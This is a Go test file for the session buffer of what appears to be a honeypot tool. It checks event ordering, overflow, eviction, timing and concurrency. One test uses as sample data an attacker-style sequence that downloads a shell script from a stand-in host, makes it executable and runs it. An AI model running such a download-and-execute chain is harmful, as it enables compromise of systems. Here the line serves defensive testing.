package session

import (
	"fmt"
	"honeyguard/internal/types"
	"sync"
	"testing"
	"time"
)

type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Advance(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

func event(session, cmd string) types.NormalizedEvent {
	return types.NormalizedEvent{
		SessionID:  session,
		SourceIP:   "10.0.0.5",
		OccurredAt: time.Date(2025, 7, 1, 14, 32, 10, 0, time.UTC),
		Command:    cmd,
	}
}

func TestBuffer_AppendDrainOrder(t *testing.T) {
	buf := NewBuffer(Options{})

	cmds := []string{"wget http://x/p.sh", "chmod +x p.sh", "./p.sh"}
	for i, c := range cmds {
		res := buf.Append(event("s1", c))
		if res.Len != i+1 {
			t.Errorf("Expected len %d, got %d", i+1, res.Len)
		}
	}

	tl, ok := buf.Drain("s1")
	if !ok {
		t.Fatal("Expected timeline, got none")
	}
	if tl.Len() != len(cmds) {
		t.Fatalf("Expected %d events, got %d", len(cmds), tl.Len())
	}
	for i, c := range cmds {
		if tl.Events[i].Command != c {
			t.Errorf("Event %d: expected %q, got %q", i, c, tl.Events[i].Command)
		}
	}

	if _, ok := buf.Drain("s1"); ok {
		t.Error("Expected session to be empty after drain")
	}
	if buf.Len() != 0 {
		t.Errorf("Expected 0 sessions, got %d", buf.Len())
	}
}

func TestBuffer_DrainUnknownSession(t *testing.T) {
	buf := NewBuffer(Options{})
	if _, ok := buf.Drain("nope"); ok {
		t.Error("Expected no timeline for unknown session")
	}
}

func TestBuffer_SessionsAreIndependent(t *testing.T) {
	buf := NewBuffer(Options{})
	buf.Append(event("s1", "a"))
	buf.Append(event("s2", "b"))
	buf.Append(event("s1", "c"))

	tl, _ := buf.Drain("s1")
	if tl.Len() != 2 {
		t.Errorf("Expected 2 events for s1, got %d", tl.Len())
	}
	tl, _ = buf.Drain("s2")
	if tl.Len() != 1 || tl.Events[0].Command != "b" {
		t.Errorf("Unexpected s2 timeline: %+v", tl)
	}
}

func TestBuffer_FullAndOverflow(t *testing.T) {
	buf := NewBuffer(Options{MaxEvents: 2})

	if res := buf.Append(event("s1", "a")); res.Full {
		t.Error("Did not expect Full after first event")
	}
	res := buf.Append(event("s1", "b"))
	if !res.Full {
		t.Fatal("Expected Full at MaxEvents")
	}

	// Caller ignored Full: the full timeline is detached, not dropped
	res = buf.Append(event("s1", "c"))
	if res.Evicted == nil || res.Evicted.Len() != 2 {
		t.Fatalf("Expected overfull timeline to be returned, got %+v", res.Evicted)
	}
	if res.Len != 1 {
		t.Errorf("Expected new timeline of length 1, got %d", res.Len)
	}
}

func TestBuffer_EvictsStalestSession(t *testing.T) {
	clock := &fakeClock{now: time.Unix(1000, 0)}
	buf := NewBuffer(Options{MaxSessions: 2, Now: clock.Now})

	buf.Append(event("old", "a"))
	clock.Advance(time.Second)
	buf.Append(event("newer", "b"))
	clock.Advance(time.Second)

	res := buf.Append(event("third", "c"))
	if res.Evicted == nil || res.Evicted.SessionID != "old" {
		t.Fatalf("Expected 'old' to be evicted, got %+v", res.Evicted)
	}
	if buf.Len() != 2 {
		t.Errorf("Expected 2 sessions, got %d", buf.Len())
	}
}

func TestBuffer_Due(t *testing.T) {
	clock := &fakeClock{now: time.Unix(1000, 0)}
	buf := NewBuffer(Options{Now: clock.Now})

	buf.Append(event("idle", "a"))
	clock.Advance(20 * time.Second)
	buf.Append(event("busy", "b"))

	due := buf.Due(15*time.Second, 0)
	if len(due) != 1 || due[0] != "idle" {
		t.Errorf("Expected only 'idle' due, got %v", due)
	}

	// busy keeps typing but exceeds max age
	for i := 0; i < 6; i++ {
		clock.Advance(10 * time.Second)
		buf.Append(event("busy", "x"))
	}
	due = buf.Due(0, time.Minute)
	found := false
	for _, id := range due {
		if id == "busy" {
			found = true
		}
	}
	if !found {
		t.Errorf("Expected 'busy' due by max age, got %v", due)
	}
}

func TestBuffer_Concurrency(t *testing.T) {
	buf := NewBuffer(Options{})

	var wg sync.WaitGroup
	iterations := 100

	for i := 0; i < 10; i++ {
		wg.Add(1)
		go func(id int) {
			defer wg.Done()
			for j := 0; j < iterations; j++ {
				buf.Append(event(fmt.Sprintf("s%d", id%2), fmt.Sprintf("cmd-%d-%d", id, j)))
			}
		}(i)
	}

	// Concurrent drains must never lose an appended event
	drained := make(chan int, 1000)
	stop := make(chan struct{})
	var dwg sync.WaitGroup
	dwg.Add(1)
	go func() {
		defer dwg.Done()
		for {
			select {
			case <-stop:
				return
			default:
				if tl, ok := buf.Drain("s0"); ok {
					drained <- tl.Len()
				}
			}
		}
	}()

	wg.Wait()
	close(stop)
	dwg.Wait()
	close(drained)

	total := 0
	for n := range drained {
		total += n
	}
	if tl, ok := buf.Drain("s0"); ok {
		total += tl.Len()
	}
	if expected := 5 * iterations; total != expected {
		t.Errorf("Expected %d events for s0, got %d", expected, total)
	}

	tl, _ := buf.Drain("s1")
	if expected := 5 * iterations; tl.Len() != expected {
		t.Errorf("Expected %d events for s1, got %d", expected, tl.Len())
	}
}

func TestBuffer_DrainAll(t *testing.T) {
	buf := NewBuffer(Options{})
	buf.Append(event("s1", "a"))
	buf.Append(event("s2", "b"))

	all := buf.DrainAll()
	if len(all) != 2 {
		t.Errorf("Expected 2 timelines, got %d", len(all))
	}
	if buf.Len() != 0 {
		t.Errorf("Expected empty buffer, got %d sessions", buf.Len())
	}
}
